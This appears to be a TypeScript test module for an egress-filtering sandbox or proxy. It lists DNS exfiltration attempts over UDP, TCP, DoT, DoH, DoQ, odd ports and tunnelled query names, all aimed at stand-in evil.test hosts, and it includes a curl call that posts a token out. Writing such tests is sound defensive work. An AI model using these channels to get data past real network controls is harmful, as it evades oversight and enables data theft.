/** DNS, over each transport. */
import {encode} from 'dns-packet';
import type {Attempt} from '../attempt.ts';
import {OTHER_RESOLVER, RESOLVER} from '../addresses.ts';
import {http, say, tlsTo} from '../wire.ts';

const question = (token: string): Buffer =>
  encode({type: 'query', id: 7, flags: 0x100, questions: [{type: 'TXT', name: `${token}.evil.test`}]});
/** RFC 1035 §4.2.2: over TCP with its length in front. */
const framed = (token: string): Buffer => {
  const message = question(token);
  return Buffer.concat([Buffer.from([message.length >> 8, message.length & 0xff]), message]);
};

export const DNS: readonly Attempt[] = [
  {
    id: 'dns-udp',
    title: 'a question to another resolver over UDP',
    invariant: 3,
    attempt: (by) => by.datagram(OTHER_RESOLVER[4], 53, question(by.token)),
    control: 'free',
  },
  {
    id: 'dns-udp6',
    title: 'a question to another resolver over UDP and IPv6',
    invariant: 3,
    attempt: (by) => by.datagram(OTHER_RESOLVER[6], 53, question(by.token)),
    control: 'free',
  },
  {
    id: 'dns-tcp',
    title: 'a question to another resolver over TCP',
    invariant: 3,
    attempt: async (by) => void (await say(by.connect(OTHER_RESOLVER[4], 53), framed(by.token))),
    control: 'free',
  },
  {
    id: 'dns-tls',
    title: 'a question to another resolver over TLS (DoT)',
    invariant: 3,
    attempt: async (by) =>
      void (await say(await tlsTo(by, OTHER_RESOLVER[4], 'dns.evil.test', {}, 853), framed(by.token))),
    control: 'free',
  },
  {
    id: 'dns-https',
    title: 'a question to another resolver over HTTPS (DoH)',
    invariant: 3,
    attempt: async (by) =>
      void (await by.curl(
        '--resolve',
        `dns.evil.test:443:${OTHER_RESOLVER[4]}`,
        '-H',
        'content-type: application/dns-message',
        '-d',
        by.token,
        'https://dns.evil.test/dns-query',
      )),
    control: 'free',
  },
  {
    id: 'dns-quic',
    title: 'a question to another resolver over QUIC (DoQ)',
    invariant: 3,
    attempt: (by) => by.datagram(OTHER_RESOLVER[4], 853, question(by.token)),
    control: 'free',
  },
  {
    id: 'dns-other-port',
    title: 'a question to another resolver on another port (5353)',
    invariant: 3,
    attempt: (by) => by.datagram(OTHER_RESOLVER[4], 5353, question(by.token)),
    control: 'free',
  },
  {
    id: 'dns-resolver-https',
    title: 'a question to the named resolver over HTTPS',
    invariant: 3,
    attempt: async (by) =>
      void (await by.curl(
        '-d',
        by.token,
        '-H',
        'content-type: application/dns-message',
        `https://${RESOLVER}/dns-query`,
      )),
    control: 'free',
  },
  {
    id: 'dns-resolver-udp-port',
    title: 'UDP to another port of the named resolver',
    invariant: 3,
    attempt: (by) => by.datagram(RESOLVER, 443, by.token),
    control: 'free',
  },
  {
    id: 'dns-lookup-denied',
    title: 'a name that no rule holds, asked of the explicit port: the proxy looks it up',
    invariant: 1,
    attempt: async (by) =>
      void (await say(
        by.explicit(),
        http(`GET http://${by.token}.evil.test/ HTTP/1.1`, `Host: ${by.token}.evil.test`),
      )),
    control: 'free',
  },
  {
    id: 'dns-lookup-sni',
    title: 'a name that no rule holds as SNI: the proxy looks it up',
    invariant: 1,
    attempt: async (by) => void (await tlsTo(by, '203.0.113.10', `${by.token}.evil.test`)),
    control: 'free',
  },
  {
    id: 'dns-tunnel',
    title: 'a question to the named resolver, whose name carries what is to get out',
    invariant: 3,
    attempt: (by) => by.datagram(RESOLVER, 53, question(by.token)),
    control: 'free',
  },
  {
    id: 'dns-tunnel-tcp',
    title: 'the same over TCP',
    invariant: 3,
    attempt: async (by) => void (await say(by.connect(RESOLVER, 53), framed(by.token))),
    control: 'free',
  },
];
